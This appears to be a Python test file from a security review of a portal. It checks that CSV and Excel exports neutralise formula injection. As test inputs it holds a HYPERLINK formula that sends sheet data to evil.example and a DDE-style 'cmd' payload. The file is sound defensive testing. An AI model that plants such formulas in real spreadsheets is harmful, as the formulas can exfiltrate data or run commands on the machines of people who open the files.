"""The portal's CSVs and workbooks run no formula a text holds (security review, session 25).

The cashier's daily reconciliation CSV (``/shift/daily-report.csv``) carried a refund reason typed
``=HYPERLINK("https://evil.example/?"&A1,"Xem")`` as it was, which Excel opens as a link sending the
sheet away; openpyxl stored the same text in a workbook as a formula. The CSV writes it with ``'``
before it, the workbook as a string cell; numbers (a refund's ``-30000``) stay numbers."""

from __future__ import annotations

import csv
import io

from flask import Flask
from openpyxl import load_workbook
from sen_portal.web import csvfile, xlsxfile

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Xem")'


def test_the_csv_writes_a_formula_as_text_and_numbers_as_numbers():
    with Flask(__name__).app_context():
        response = csvfile.download(["note", "amount", "name"], [[LINK, "-30000", "@cmd"], ["tiền thừa", -30000, None]],
                                    "x.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1] == ["'" + LINK, "-30000", "'@cmd"]  # failed before: the formula as typed
    assert rows[2] == ["tiền thừa", "-30000", ""]


def test_the_workbook_stores_a_formula_as_a_string():
    book = load_workbook(io.BytesIO(xlsxfile.workbook(["facility", "net"], ["=1+1 label", "Net"],
                                                      [[LINK, 150_000], ["+cmd|' /C calc'!A0", -5]], "t")))
    sheet = book.active
    assert sheet["A2"].value == LINK and sheet["A2"].data_type == "s"  # failed before: a formula cell ('f')
    assert sheet["A3"].data_type == "s" and sheet["A1"].data_type == "s"
    assert sheet["B2"].value == 150_000 and sheet["B3"].value == -5 and sheet["B2"].data_type == "n"
